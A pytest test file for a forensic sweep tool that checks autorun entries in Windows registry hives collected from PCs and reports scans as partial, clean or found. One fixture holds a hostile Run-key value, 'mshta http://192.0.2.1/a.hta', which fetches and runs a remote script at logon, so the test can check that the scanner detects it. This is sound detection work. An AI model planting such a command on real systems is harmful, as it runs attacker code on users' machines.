"""A folder of one PC: what the collector could not tell, its registry files tell."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path, PurePosixPath
from zoneinfo import ZoneInfo

import pytest

from honmono.cli.sweep.sources import found_in
from honmono.sweep.collected import completed, is_hive
from honmono.sweep.importers import ReportFile, read
from honmono.sweep.scan import Outcome, Scan
from honmono.sweep.scanner._core import Artefacts
from honmono.sweep.scanner.artefacts import artefacts_as_json
from tests.sweep.hive_files import hive_file
from tests.sweep.machines import EXPLORER, RUN, Builder

QUIET = {
    RUN: {"Agent": "string:C:\\Program Files\\A\\a.exe"},
    EXPLORER: {"x": "dword:1"},
}
HARM = {RUN: {"x": "string:mshta http://192.0.2.1/a.hta"}, EXPLORER: {"x": "dword:1"}}


def away() -> tuple[Artefacts, str, str]:
    """A PC, one user of which is away; his number, and how his profile is called."""
    builder = Builder(1, odd=False)
    user = builder.other()
    artefacts = builder.artefacts()
    gap = {f"autoruns:HKU\\{user.sid}": "the hive is not loaded"}
    return replace(artefacts, could_not=gap), user.sid, user.name


def scanned(data: bytes) -> Scan:
    file = ReportFile("a.json", data, datetime.now(UTC), ZoneInfo("Asia/Tokyo"))
    return read(file).scans[0]


def test_without_the_file_of_who_is_away_it_is_not_clean() -> None:
    artefacts, _, _ = away()
    assert scanned(artefacts_as_json(artefacts).encode()).outcome is Outcome.PARTIAL


@pytest.mark.parametrize("name", ["{user}/NTUSER.DAT", "ntuser_{sid}.dat"])
def test_with_it_all_was_looked_at(tmp_path: Path, name: str) -> None:
    artefacts, sid, user = away()
    path = PurePosixPath(name.format(user=user, sid=sid))
    hive = hive_file(tmp_path, QUIET)
    scan = scanned(completed(artefacts_as_json(artefacts).encode(), [(path, hive)]))

    assert (scan.outcome, scan.could_not) == (Outcome.CLEAN, ())
    assert "sha256:" in scan.unknown["host:hives"]


def test_what_starts_at_his_logon_is_found(tmp_path: Path) -> None:
    artefacts, _, user = away()
    hives = [(PurePosixPath(user, "NTUSER.DAT"), hive_file(tmp_path, HARM))]
    scan = scanned(completed(artefacts_as_json(artefacts).encode(), hives))

    assert scan.outcome is Outcome.FOUND


def test_a_broken_file_or_one_of_nobody_leaves_the_gap(tmp_path: Path) -> None:
    artefacts, _, user = away()
    whole = hive_file(tmp_path, QUIET)
    for path, data in (
        (PurePosixPath(user, "NTUSER.DAT"), whole[:5_000]),
        (PurePosixPath("somebody", "NTUSER.DAT"), whole),
        (PurePosixPath("NTUSER.DAT"), whole),
    ):
        scan = scanned(completed(artefacts_as_json(artefacts).encode(), [(path, data)]))
        assert scan.outcome is Outcome.PARTIAL, path
        assert "autoruns" in scan.could_not


@pytest.mark.parametrize("name", ["NTUSER.DAT", "software", "SYSTEM", "ntuser_1.dat"])
def test_registry_files_are_known_by_their_names(name: str) -> None:
    assert is_hive(name)
    assert not is_hive(name + ".txt")


def test_a_folder_of_a_pc_is_one_report(tmp_path: Path) -> None:
    artefacts, _, user = away()
    pc = tmp_path / "in/TKY-PC014"
    (pc / user).mkdir(parents=True)
    (pc / "TKY-PC014_1_artefacts.json").write_text(artefacts_as_json(artefacts))
    (pc / user / "NTUSER.DAT").write_bytes(hive_file(tmp_path, QUIET))
    (tmp_path / "in/SYSTEM").write_bytes(b"regf")

    found = list(found_in([str(tmp_path / "in")]))

    assert [(one.name, one.why) for one in found] == [
        ("TKY-PC014_1_artefacts.json", ""),
        ("SYSTEM", "hive-alone"),
    ]
    assert scanned(found[0].data).outcome is Outcome.CLEAN


def test_registry_files_beside_those_of_two_pcs_are_of_neither(tmp_path: Path) -> None:
    for name in ("A_artefacts.json", "B_artefacts.json"):
        (tmp_path / name).write_text(artefacts_as_json(away()[0]))
    (tmp_path / "SOFTWARE").write_bytes(b"regf")

    assert [one.why for one in found_in([str(tmp_path)])] == ["", "", "hive-alone"]
